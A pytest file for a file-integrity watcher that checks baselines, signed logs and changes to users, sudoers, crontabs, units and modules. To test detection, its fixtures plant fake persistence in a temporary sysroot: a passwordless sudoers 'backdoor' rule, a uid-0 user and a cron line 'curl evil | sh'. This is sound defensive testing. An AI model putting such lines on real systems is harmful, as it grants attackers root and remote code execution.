"""Integrity watcher, one-shot commands (init, check, accept, status, verify-log) on real files in tmp dirs."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_watch_helpers import hw, read_events, write_policy  # noqa: E402

from hardening.errors import InputError  # noqa: E402
from hardening.watch.policy import load_policy  # noqa: E402
from hardening.watch.snapshot import Problems, Scanner, hash_file  # noqa: E402
from hardening.store import Store  # noqa: E402


class Box:
    """A watched tree, a state dir, an alerts file and a history database, all under tmp_path."""

    def __init__(self, root: Path, paths=None, system=None, **top):
        self.root = root
        self.tree = root / "tree"
        self.tree.mkdir()
        self.state = root / "state"
        self.alerts = root / "alerts.jsonl"
        self.db = root / "history.db"
        self.policy = write_policy(root / "policy.yml", paths or [{"path": str(self.tree)}], system, **top)

    def init(self, rc=0):
        return hw("init", "--policy", self.policy, "--state-dir", self.state, check_rc=rc)

    def check(self, *extra, rc=None):
        done = hw("check", "--state-dir", self.state, "--alerts-jsonl", self.alerts, "--db", self.db,
                  "--format", "json", *extra, check_rc=rc)
        assert done.stdout, done.stderr
        return done, json.loads(done.stdout)

    def changes(self, *extra, rc=None) -> dict:
        _, doc = self.check(*extra, rc=rc)
        return {c["path"]: c for c in doc["changes"]}


@pytest.fixture
def box(tmp_path):
    return Box(tmp_path)


def populate(tree: Path) -> None:
    (tree / "etc").mkdir()
    (tree / "etc" / "a.conf").write_text("alpha=1\n")
    (tree / "etc" / "b.conf").write_text("beta=2\n")
    (tree / "bin").mkdir()
    (tree / "bin" / "tool").write_bytes(b"\x7fELF" + b"x" * 1000)
    os.chmod(tree / "bin" / "tool", 0o755)
    os.symlink("a.conf", tree / "etc" / "link")


# ------------------------------------------------------------------------------------ policy
def test_shipped_policy_loads_and_covers_the_level3_paths():
    policy = load_policy()
    roots = set(policy.roots)
    for path in ("/etc", "/usr/bin", "/usr/sbin", "/usr/lib/systemd", "/boot", "/etc/cron.d", "/etc/ssh",
                 "/etc/pam.d", "/var/spool/cron"):
        assert path in roots
    assert policy.roots["/etc/ssh"].severity == "critical"
    assert policy.roots["/var/log/auth.log"].growing
    assert set(policy.system) >= {"units", "modules", "users", "groups", "sudoers", "crontabs", "ports"}


def test_oracle_home_paths_when_present(tmp_path, monkeypatch):
    monkeypatch.setenv("ORACLE_HOME", str(tmp_path / "oracle"))
    policy = load_policy()
    assert str(tmp_path / "oracle" / "bin") in policy.roots
    admin = policy.roots[str(tmp_path / "oracle" / "network" / "admin")]
    assert not admin.recursive and admin.optional


@pytest.mark.parametrize("body,message", [
    ("paths: [{path: /etc, attributes: [md5]}]", "unknown attribute"),
    ("paths: [{path: etc}]", "paths must be absolute"),
    ("paths: [{path: /etc, recurse: true}]", "unknown key 'recurse'"),
    ("paths: [{path: /etc, attributes: [sha256, sha512]}]", "at most one hash"),
    ("paths: [/etc]\nsystem: {kernel: true}", "unknown system object"),
    ("paths: [{path: /etc\n", "malformed YAML"),
])
def test_bad_policy_is_one_line_with_file_and_line(tmp_path, body, message):
    policy = tmp_path / "bad.yml"
    policy.write_text(body)
    with pytest.raises(InputError) as info:
        load_policy(policy)
    assert message in str(info.value) and str(policy) in str(info.value)
    done = hw("init", "--policy", policy, "--state-dir", tmp_path / "s", check_rc=2)
    assert message in done.stderr and len(done.stderr.strip().splitlines()) == 1


def test_include_exclude_by_suffix_and_glob_recursive_and_not(tmp_path):
    t = tmp_path / "t"
    (t / "sub" / "deep").mkdir(parents=True)
    for name in ("a.conf", "b.log", "c.swp", "keep.sh", "sub/d.conf", "sub/deep/e.conf", "sub/skip.conf"):
        (t / name).write_text(name)
    (t / "flat").mkdir()
    (t / "flat" / "x.conf").write_text("x")
    (t / "flat" / "inner").mkdir()
    (t / "flat" / "inner" / "y.conf").write_text("y")
    policy = load_policy(write_policy(tmp_path / "p.yml", [
        {"path": str(t), "include": [".conf", "keep.*"], "exclude": ["*.swp", f"{t}/sub/skip.*"]},
        {"path": str(t / "flat"), "recursive": False},
    ]))
    scanner = Scanner(policy, Problems())
    found = {p for p, _r, _s in scanner.walk_all()}
    assert found == {f"{t}/a.conf", f"{t}/keep.sh", f"{t}/sub/d.conf", f"{t}/sub/deep/e.conf",
                     f"{t}/flat", f"{t}/flat/x.conf", f"{t}/flat/inner"}
    assert policy.rule_for(f"{t}/flat/inner/y.conf") is None
    assert policy.rule_for(f"{t}/sub/skip.conf") is None


# ------------------------------------------------------------------------------------ file changes
def test_no_change_exits_0_then_each_kind_of_change_is_found(box):
    populate(box.tree)
    box.init()
    box.check(rc=0)
    t = box.tree
    a, b, tool, link = t / "etc" / "a.conf", t / "etc" / "b.conf", t / "bin" / "tool", t / "etc" / "link"
    # modify: same size, mtime restored with touch -d
    before = a.stat()
    a.write_text("alpha=9\n")
    ns = before.st_mtime_ns
    subprocess.run(["touch", "-d", f"@{ns // 10**9}.{ns % 10**9:09d}", str(a)], check=True)
    assert a.stat().st_mtime_ns == before.st_mtime_ns and a.stat().st_size == before.st_size
    os.chmod(tool, 0o4755)                                # chmod (setuid!)
    os.chown(b, 65534, 65534)                             # chown
    (t / "etc" / "new.conf").write_text("new\n")          # create
    os.rename(t / "bin" / "tool", t / "bin" / "tool2")    # rename
    link.unlink()
    os.symlink("b.conf", link)                            # symlink retarget
    os.link(b, t / "etc" / "hard")                        # hard link
    got = box.changes(rc=1)
    assert {"sha256", "ctime"} <= set(got[str(a)]["changes"]) and "size" not in got[str(a)]["changes"]
    assert "mtime" not in got[str(a)]["changes"]
    assert got[str(tool) + "2"]["event"] == "added" and got[str(tool)]["event"] == "removed"
    assert got[str(b)]["changes"]["owner"][1].startswith("65534") and "group" in got[str(b)]["changes"]
    assert got[str(b)]["changes"]["nlink"] == [1, 2]
    assert got[str(t / "etc" / "new.conf")]["event"] == "added"
    assert got[str(link)]["changes"]["link"] == ["a.conf", "b.conf"]
    assert got[str(t / "etc" / "hard")]["event"] == "added"
    # the rename kept the inode: the added entry has the same hash as the removed one
    assert got[str(tool) + "2"]["after"]["sha256"] == got[str(tool)]["before"]["sha256"]
    # chmod on a file that was renamed: check the mode directly on the new name
    assert got[str(tool) + "2"]["after"]["mode"] == "4755"
    # delete
    (t / "etc" / "new.conf").unlink()
    assert got and str(t / "etc" / "new.conf") not in box.changes(rc=1)
    # all of it was logged once, alerted, and stored for the reports
    alerts = read_events(box.alerts)
    assert any(e["event"] == "restored" and e["path"] == str(t / "etc" / "new.conf") for e in alerts)
    stored = Store(box.db).integrity_events()
    assert {e["path"] for e in stored} >= {str(a), str(b), str(link)}
    assert all(e["log_seq"] for e in stored)
    hw("verify-log", "--state-dir", box.state, check_rc=0)


def test_quick_check_relies_on_ctime_and_full_check_rehashes(box):
    populate(box.tree)
    box.init()
    _, quick = box.check(rc=0)
    assert quick["hashed"] == 0 and quick["reused"] == 3
    _, full = box.check("--full", rc=0)
    assert full["hashed"] == 3 and full["reused"] == 0


def test_accept_records_who_and_why_and_resigns(box):
    populate(box.tree)
    box.init()
    (box.tree / "etc" / "a.conf").write_text("approved change\n")
    (box.tree / "etc" / "b.conf").write_text("unapproved change\n")
    box.check(rc=1)
    hw("accept", "--state-dir", box.state, check_rc=2)     # --reason is required
    done = hw("accept", box.tree / "etc" / "a.conf", "--state-dir", box.state, "-m", "CHG-42 new alpha",
              "--by", "alice", check_rc=0)
    assert "1 change(s) accepted" in done.stdout
    got = box.changes(rc=1)
    assert str(box.tree / "etc" / "a.conf") not in got and str(box.tree / "etc" / "b.conf") in got
    hw("accept", "--state-dir", box.state, "-m", "all reviewed", check_rc=0)
    box.check(rc=0)
    status = json.loads(hw("status", "--state-dir", box.state, "--format", "json", check_rc=0).stdout)
    assert status["baseline"] == "trusted"
    assert status["accepted"][0]["by"] == "alice" and status["accepted"][0]["reason"] == "CHG-42 new alpha"
    logged = [json.loads(x) for x in (box.state / "events.jsonl").read_text().splitlines()]
    assert any(e["event"] == "accepted" and e["by"] == "alice" and e["reason"] == "CHG-42 new alpha" for e in logged)


def test_growing_log_may_grow_but_not_shrink(tmp_path):
    box = Box(tmp_path)
    log = box.tree / "app.log"
    log.write_text("line 1\n")
    box.policy = write_policy(tmp_path / "p.yml", [
        {"path": str(log), "growing": True, "attributes": ["sha256", "size", "mode", "mtime", "inode"]}])
    box.init()
    with open(log, "a") as f:
        f.write("line 2\n")
    box.check(rc=0)
    log.write_text("x\n")                               # truncated and rewritten
    got = box.changes(rc=1)
    assert "size" in got[str(log)]["changes"]


# ------------------------------------------------------------------------------------ bad input
def test_missing_path_unreadable_file_symlink_loop_non_utf8_name(tmp_path):
    box = Box(tmp_path, paths=None)
    t = box.tree
    populate(t)
    secret = t / "etc" / "secret"
    secret.write_text("root only\n")
    os.chmod(secret, 0o600)
    os.symlink("loop2", t / "loop1")
    os.symlink("loop1", t / "loop2")
    bad = os.fsencode(str(t / "etc")) + b"/caf\xe9.conf"          # Latin-1 name: not UTF-8
    with open(bad, "wb") as f:
        f.write(b"latin-1\n")
    missing = tmp_path / "does-not-exist"
    write_policy(box.policy, [{"path": str(t)}, {"path": str(missing)}, {"path": str(t / "loop1" / "x")}])
    os.chown(secret, 65534, 65534)                     # another user's 0600 file
    # without the capabilities that bypass permissions: that file cannot be read, everything else is baselined
    done = hw("init", "--policy", box.policy, "--state-dir", box.state, unprivileged=True, check_rc=3)
    assert f"{secret}: permission denied" in done.stderr
    assert f"{missing}: policy path does not exist" in done.stderr
    assert f"{t}/loop1/x: too many levels of symbolic links (a symlink loop)" in done.stderr
    assert "Traceback" not in done.stderr
    # the rest keeps being watched: a change next to the unreadable file is found
    (t / "etc" / "a.conf").write_text("changed\n")
    done = hw("check", "--state-dir", box.state, "--no-db", "--format", "json", unprivileged=True, check_rc=1)
    doc = json.loads(done.stdout)
    paths = {c["path"] for c in doc["changes"]}
    assert str(t / "etc" / "a.conf") in paths
    assert str(secret) not in paths                   # unreadable both times: a problem, not a change
    assert {"path": str(secret), "message": "permission denied"} in doc["problems"]
    # the non-UTF-8 name: recorded exactly, shown with \x escapes, changes found
    with open(bad, "ab") as f:
        f.write(b"more\n")
    doc = json.loads(hw("check", "--state-dir", box.state, "--no-db", "--format", "json", unprivileged=True).stdout)
    shown = str(t / "etc") + "/caf\\xe9.conf"
    record = next(c for c in doc["changes"] if c["path"] == shown)
    assert bytes.fromhex(record["path_hex"]) == bad and "sha256" in record["changes"]
    # and it can be accepted by its real (undecodable) name
    subprocess.run([sys.executable, "-c", "import os,sys,subprocess; sys.exit(subprocess.call([sys.executable, '-m', "
                    "'hardening', 'watch', 'accept', os.fsdecode(sys.argv[1].encode('latin-1')), '--state-dir', "
                    "sys.argv[2], '-m', 'reviewed']))", bad.decode("latin-1"), str(box.state)],
                   check=True, env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
                   capture_output=True)
    doc = json.loads(hw("check", "--state-dir", box.state, "--no-db", "--format", "json").stdout)
    assert shown not in {c["path"] for c in doc["changes"]}
    # a state directory this user cannot read: one line, exit 2
    os.chown(box.state, 65534, 65534)
    done = hw("check", "--state-dir", box.state, "--no-db", unprivileged=True, check_rc=2)
    assert "permission denied" in done.stderr and len(done.stderr.strip().splitlines()) == 1


def test_symlink_loops_inside_the_tree_do_not_trap_the_walk(box):
    populate(box.tree)
    os.symlink(".", box.tree / "self")
    os.symlink("..", box.tree / "etc" / "up")
    box.init()
    got = box.changes(rc=0)
    assert got == {}


def test_bind_mount_loop_is_reported_and_not_entered_twice(box):
    populate(box.tree)
    (box.tree / "etc" / "again").mkdir()
    # in a private mount namespace: the tree mounted inside itself (a directory loop without symlinks)
    script = (f"mount --bind {box.tree} {box.tree}/etc/again && "
              f"exec {sys.executable} -m hardening watch init --policy {box.policy} --state-dir {box.state}")
    done = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script], capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
                          timeout=60)
    assert done.returncode == 3, done.stderr
    assert f"{box.tree}/etc/again: directory loop (already visited through another path)" in done.stderr
    assert "Traceback" not in done.stderr


# ------------------------------------------------------------------------------------ hashing
def test_file_replaced_or_written_during_hashing(tmp_path):
    target = tmp_path / "busy"
    with open(target, "wb") as f:
        f.truncate(512 << 20)                            # 512 MiB sparse: takes a while to hash
    writer = subprocess.Popen([sys.executable, "-c", f"""
import os, time
end = time.time() + 8
i = 0
while time.time() < end:
    with open({str(target)!r}, 'r+b') as f:
        f.seek(i % 4096); f.write(b'x')
    i += 1
    time.sleep(0.005)
"""])
    try:
        time.sleep(0.2)
        st, digest, problem = hash_file(str(target), "sha256")
    finally:
        writer.kill()
        writer.wait()
    assert digest is None and problem == "changed while being hashed (3 attempts)"
    # replaced (renamed over) while being hashed: the digest always belongs to the inode recorded
    other = tmp_path / "other"
    other.write_bytes(b"small replacement\n")
    results = {}

    def hash_it():
        results["r"] = hash_file(str(target), "sha256")

    thread = threading.Thread(target=hash_it)
    thread.start()
    time.sleep(0.05)
    os.rename(other, target)
    thread.join()
    st, digest, problem = results["r"]
    assert problem is None and digest == hashlib.sha256(b"small replacement\n").hexdigest()
    assert st.st_ino == target.stat().st_ino


def test_one_gigabyte_sparse_file(box):
    big = box.tree / "sparse.img"
    with open(big, "wb") as f:
        f.truncate(1 << 30)
    assert big.stat().st_blocks == 0                     # costs no disk
    box.init()
    with open(big, "r+b") as f:
        f.seek((1 << 30) - 1)
        f.write(b"\x01")                                  # last byte changed, same size
    started = time.monotonic()
    got = box.changes("--full", rc=1)
    assert "sha256" in got[str(big)]["changes"] and "size" not in got[str(big)]["changes"]
    assert time.monotonic() - started < 30


# ------------------------------------------------------------------------------------ tamper evidence
def test_modified_or_replaced_baseline_is_refused_and_alerted(box):
    populate(box.tree)
    box.init()
    baseline = box.state / "baseline.jsonl"
    original = baseline.read_bytes()
    # 1. one byte of the body changed (a file hash rewritten to hide a change)
    tampered = original.replace(b'"m":420', b'"m":511', 1)
    assert tampered != original
    baseline.write_bytes(tampered)
    done = hw("check", "--state-dir", box.state, "--alerts-jsonl", box.alerts, "--db", box.db, check_rc=2)
    assert "baseline not trusted" in done.stderr and "signature does not verify" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    alert = read_events(box.alerts)[-1]
    assert alert["event"] == "baseline_untrusted" and alert["severity"] == "critical"
    # 2. replaced by a baseline signed with another key pair
    other = box.root / "other"
    hw("init", "--policy", box.policy, "--state-dir", other, check_rc=0)
    baseline.write_bytes((other / "baseline.jsonl").read_bytes())
    done = hw("check", "--state-dir", box.state, "--no-db", check_rc=2)
    assert "not by this watcher's key" in done.stderr
    # 3. the whole key pair replaced too: the private/public mismatch, or the pinned fingerprint, catches it
    fingerprint = json.loads(original.split(b"\n", 1)[0])["key"]
    (box.state / "signing.pub").write_bytes((other / "signing.pub").read_bytes())
    done = hw("check", "--state-dir", box.state, "--no-db", "--expect-key", fingerprint, check_rc=2)
    assert "is not the pinned key" in done.stderr
    # the daemon refuses to start on it, and alerts
    done = hw("run", "--state-dir", box.state, "--no-db", "--alerts-jsonl", box.alerts, "--expect-key",
              fingerprint, check_rc=2)
    assert read_events(box.alerts)[-1]["event"] == "baseline_untrusted"
    # restored: trusted again
    (box.state / "signing.pub").write_bytes(b"")
    baseline.write_bytes(original)
    hw("check", "--state-dir", box.state, "--no-db", check_rc=2)      # an empty public key is not trusted either


def test_passphrase_protected_key(box):
    populate(box.tree)
    secret = {"HARDENING_WATCH_PASSPHRASE": "correct horse"}
    hw("init", "--policy", box.policy, "--state-dir", box.state, extra_env=secret, check_rc=0)
    assert b"ENCRYPTED" in (box.state / "signing.key").read_bytes()
    assert (box.state / "signing.key").stat().st_mode & 0o777 == 0o600
    (box.tree / "etc" / "a.conf").write_text("changed\n")
    hw("check", "--state-dir", box.state, "--no-db", extra_env=secret, check_rc=1)
    # without it the baseline still verifies (public key), but nothing can be signed: one line, exit 2
    done = hw("accept", "--state-dir", box.state, "-m", "x", check_rc=2)
    assert "passphrase-protected" in done.stderr and len(done.stderr.strip().splitlines()) == 1
    done = hw("accept", "--state-dir", box.state, "-m", "x", extra_env={"HARDENING_WATCH_PASSPHRASE": "wrong"},
              check_rc=2)
    assert "wrong passphrase" in done.stderr
    hw("run", "--state-dir", box.state, "--no-db", check_rc=2)


def test_event_log_alteration_removal_and_truncation_are_detected(box):
    populate(box.tree)
    box.init()
    for i in range(3):
        (box.tree / "etc" / f"n{i}.conf").write_text(str(i))
        box.check(rc=1)
    log = box.state / "events.jsonl"
    good = log.read_bytes()
    lines = good.splitlines(keepends=True)
    assert len(lines) >= 4
    assert "intact" in hw("verify-log", "--state-dir", box.state, check_rc=0).stdout
    i = next(n for n, line in enumerate(lines) if b"n1.conf" in line)
    # altered event
    log.write_bytes(b"".join(lines[:i] + [lines[i].replace(b"n1.conf", b"n9.conf")] + lines[i + 1:]))
    out = hw("verify-log", "--state-dir", box.state, check_rc=1).stdout
    assert f"line {i + 2}" in out and "altered or removed" in out
    # removed event
    log.write_bytes(b"".join(lines[:i] + lines[i + 1:]))
    out = hw("verify-log", "--state-dir", box.state, check_rc=1).stdout
    assert f"events {i + 1}..{i + 1} removed" in out
    # tail truncated (a perfectly valid chain, but shorter than the signed head)
    log.write_bytes(b"".join(lines[:-2]))
    out = hw("verify-log", "--state-dir", box.state, check_rc=1).stdout
    assert "removed from the end" in out
    # head signature forged
    log.write_bytes(good)
    head = json.loads((box.state / "events.head").read_text())
    (box.state / "events.head").write_text(json.dumps({**head, "seq": head["seq"] - 1}))
    hw("verify-log", "--state-dir", box.state, check_rc=1)


# ------------------------------------------------------------------------------------ system objects
def test_users_groups_sudoers_crontabs_units_modules_as_changes(tmp_path):
    root = tmp_path / "sysroot"
    for d in ("etc/sudoers.d", "etc/cron.d", "etc/systemd/system/multi-user.target.wants", "usr/lib/systemd/system",
              "proc", "var/spool/cron/crontabs"):
        (root / d).mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    (root / "etc/shadow").write_text("root:$y$j9T$abc$def:19000:0:99999:7:::\nalice:!:19000:0:99999:7:::\n")
    (root / "etc/group").write_text("root:x:0:\nsudo:x:27:\n")
    (root / "etc/sudoers").write_text("Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n")
    (root / "etc/crontab").write_text("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    (root / "usr/lib/systemd/system/ssh.service").write_text("[Unit]\n")
    (root / "usr/lib/systemd/system/evil.service").write_text("[Unit]\n")
    os.symlink("/usr/lib/systemd/system/ssh.service", root / "etc/systemd/system/multi-user.target.wants/ssh.service")
    (root / "proc/modules").write_text("ext4 999424 1 - Live 0x0000000000000000\n")
    box = Box(tmp_path, paths=[{"path": str(tmp_path / "tree")}],
              system={"root": str(root), "users": True, "groups": True, "sudoers": True, "crontabs": True,
                      "units": True, "modules": True})
    box.init()
    box.check(rc=0)
    with open(root / "etc/passwd", "a") as f:
        f.write("mallory:x:0:0::/root:/bin/bash\n")                   # a second uid 0
    (root / "etc/shadow").write_text("root:$y$j9T$abc$CHANGED:19001:0:99999:7:::\nalice:!:19000:0:99999:7:::\n")
    (root / "etc/group").write_text("root:x:0:\nsudo:x:27:mallory\n")
    (root / "etc/sudoers.d/backdoor").write_text("mallory ALL=(ALL) NOPASSWD: ALL\n")
    (root / "var/spool/cron/crontabs/mallory").write_text("* * * * * curl evil | sh\n")
    os.symlink("/usr/lib/systemd/system/evil.service", root / "etc/systemd/system/multi-user.target.wants/evil.service")
    (root / "proc/modules").write_text("ext4 999424 1 - Live 0x0\nrootkit 16384 0 - Live 0x0\n")
    got = box.changes(rc=1)
    assert got["@user:mallory"]["event"] == "added" and got["@user:mallory"]["after"]["uid"] == "0"
    assert set(got["@user:root"]["changes"]) == {"last_change", "password_digest"}
    assert "$y$" not in json.dumps(got)                                # password hashes never leave the host
    assert got["@group:sudo"]["changes"]["members"] == ["", "mallory"]
    assert got["@sudoers:/etc/sudoers.d/backdoor: mallory ALL=(ALL) NOPASSWD: ALL"]["event"] == "added"
    assert got["@cron:/var/spool/cron/crontabs/mallory: * * * * * curl evil | sh"]["event"] == "added"
    assert got["@unit:evil.service"]["changes"]["enabled"] == ["disabled", "enabled"]
    assert got["@module:rootkit"]["event"] == "added" and got["@module:rootkit"]["kind"] == "module"
    # accept one object by its name
    hw("accept", "@module:rootkit", "--state-dir", box.state, "-m", "vendor driver", check_rc=0)
    assert "@module:rootkit" not in box.changes(rc=1)


def test_listening_port_is_a_change(box):
    write_policy(box.policy, [{"path": str(box.tree)}], {"ports": True})
    box.init()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    try:
        got = box.changes()
        key = f"@port:tcp/127.0.0.1:{port}"
        assert got[key]["event"] == "added"
        assert got[key]["after"]["process"].startswith(("python", "pytest"))
    finally:
        server.close()


def test_system_objects_of_this_machine_are_read():
    from hardening.watch import system

    users = system.users()
    assert "@user:root" in users and users["@user:root"]["uid"] == "0"
    assert not any("$" in str(u.get("password_digest", "")) for u in users.values())   # never the hash itself
    assert system.groups()["@group:root"]["gid"] == "0"
    assert isinstance(system.modules(), dict) and isinstance(system.ports(), dict) and system.units()


# ------------------------------------------------------------------------------------ misc
def test_status_and_events_and_install_service(box, tmp_path):
    populate(box.tree)
    box.init()
    assert "trusted" in hw("status", "--state-dir", box.state, check_rc=0).stdout
    (box.tree / "etc" / "a.conf").write_text("x\n")
    box.check(rc=1)
    assert "a.conf" in hw("events", "--state-dir", box.state, check_rc=0).stdout
    out = hw("install-service", "--unit-dir", tmp_path / "units", "--no-enable", "--state-dir", box.state,
             "--syslog", "--webhook", "http://127.0.0.1:9/hook", check_rc=0).stdout
    unit = (tmp_path / "units" / "hardening-watch.service").read_text()
    assert "wrote" in out
    assert "watch run --state-dir" in unit and "--syslog" in unit and "RestartPreventExitStatus=2" in unit
    assert "[Install]" in unit and "WantedBy=multi-user.target" in unit


def test_check_without_a_baseline_is_bad_input(tmp_path):
    done = hw("check", "--state-dir", tmp_path / "none", "--no-db", check_rc=2)
    assert "run `hardening watch init`" in done.stderr
    hw("init", "--state-dir", tmp_path / "s", "--policy", tmp_path / "missing.yml", check_rc=2)
